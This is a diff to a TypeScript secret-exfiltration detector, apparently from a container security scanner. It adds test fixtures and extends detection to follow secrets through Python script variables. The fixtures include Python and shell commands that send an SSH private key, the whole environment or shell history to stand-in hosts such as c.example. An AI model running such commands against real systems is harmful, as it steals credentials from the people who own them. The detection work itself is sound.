@@ -4,6 +4,7 @@ import { render } from '../trace/value.ts';
 import { type Destination, destinationOf, leaves } from './destinations.ts';
 import type { Detector } from './detector.ts';
 import { effectsOf } from './effects-of.ts';
+import { feeding, isScript } from './script-flow.ts';
 import { secretWords } from './secret-words.ts';
 import { findingOf, sightingOf } from './sighting.ts';
 import { valueWords } from './wording.ts';
@@ -50,12 +51,49 @@ on the machine, in the cluster or goes to the cloud's own interface is nothing.
     },
     { name: 'by mail', image: { cmd: ['sh', '-c', 'mail -s x someone@box.example < /root/.ssh/id_rsa'] } },
     {
+      name: 'in Python, through variables',
+      image: {
+        cmd: ['python3', '/s.py'],
+        files: {
+          '/s.py': [
+            'import os, base64, requests',
+            "path = os.path.expanduser('~/.ssh/id_rsa')",
+            'with open(path, "rb") as f:',
+            '    key = f.read()',
+            'body = base64.b64encode(key)',
+            "requests.post('https://c.example/', data=body)",
+          ].join('\n'),
+        },
+      },
+    },
+    {
+      name: 'the environment, in Python',
+      image: {
+        cmd: ['python3', '-c', "import os,requests\nrequests.post('https://c.example/', json=dict(os.environ))"],
+      },
+    },
+    {
       name: 'the shell history',
       severity: 'suspicious',
       image: { cmd: ['sh', '-c', 'curl -F h=@/root/.bash_history https://c.example/'] },
     },
   ],
   silent: [
+    {
+      name: 'one variable, in Python',
+      image: {
+        cmd: ['python3', '/s.py'],
+        files: {
+          '/s.py': [
+            'import os, requests',
+            "token = os.environ['API_TOKEN']",
+            'env = dict(os.environ)',
+            "result = open('/tmp/result.json').read()",
+            "requests.post('https://api.example/results', headers={'Authorization': token}, data=result)",
+          ].join('\n'),
+        },
+      },
+    },
     { name: 'a report', image: { cmd: ['sh', '-c', 'curl -F file=@/tmp/report.html https://ci.example/upload'] } },
     { name: 'a message', image: { cmd: ['sh', '-c', `curl -d '{"text":"started"}' https://hooks.example/x`] } },
     {
@@ -103,7 +141,9 @@ on the machine, in the cluster or goes to the cloud's own interface is nothing.
   detect(scene) {
     return effectsOf(scene, 'exfiltrate').flatMap((effect) => {
       if (effect.via === 'dns' || effect.via === 'icmp') return [];
-      const kinds = secretsOf(effect);
+      const direct = secretsOf(effect);
+      const stage = scene.story.stages[effect.stage];
+      const kinds = direct.size === 0 && stage && isScript(stage) ? secretsIn(feeding(stage, effect.line)) : direct;
       const to = destinationOf(effect.to);
       if (kinds.size === 0 || (!leaves(to) && to.kind !== 'cloud')) return [];
       if (to.kind === 'cloud' && [...kinds].every((kind) => kind === 'cloud' || kind === 'cluster')) return [];
@@ -115,6 +155,7 @@ on the machine, in the cluster or goes to the cloud's own interface is nothing.
         threat: login ? 'minor' : chosen ? 'dual-use' : 'hostile',
         title: `Sends ${secretWords(kinds)} to ${valueWords(effect.to, 100)}`,
         because: wayWords(effect, to),
+        ...(direct.size === 0 ? { confidence: 'medium' as const } : {}),
         effects: [effect.id],
       });
     });
